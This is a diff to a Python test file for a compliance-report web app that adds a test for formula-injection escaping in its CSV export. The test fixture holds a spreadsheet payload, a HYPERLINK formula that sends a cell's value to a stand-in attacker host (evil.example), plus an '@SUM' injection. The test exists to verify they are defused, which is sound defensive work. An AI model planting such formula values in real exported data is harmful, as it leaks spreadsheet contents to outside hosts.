@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 
@@ -147,3 +148,16 @@ def test_report_counts_a_risk_in_the_month_it_began_even_if_noticed_later(login_
     may = login_as("alpha.center").get("/reports/compliance?month=2026-05").get_data(as_text=True)
     risks = may.split("リスク(この月に出ていたもの)")[1]
     assert "遅延 確認" in risks and "令和8年5月1日(金)" in risks  # April's monitoring, missing since 5/1
+
+
+def test_report_csv_escapes_formulas_and_names_its_charset_once(login_as, scheduled, db_session):  # noqa: F811
+    scheduled.client_name = '=HYPERLINK("https://evil.example/?"&A1,"詳細")'
+    scheduled.insured_number = "@SUM(1+1)"
+    db_session.commit()
+    response = login_as("alpha.center").get("/reports/compliance.csv?month=2026-05")
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    names = {row[1] for row in rows[1:]}
+    assert names == {"'" + scheduled.client_name}
+    assert {row[2] for row in rows[1:]} == {"'@SUM(1+1)"}
+    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
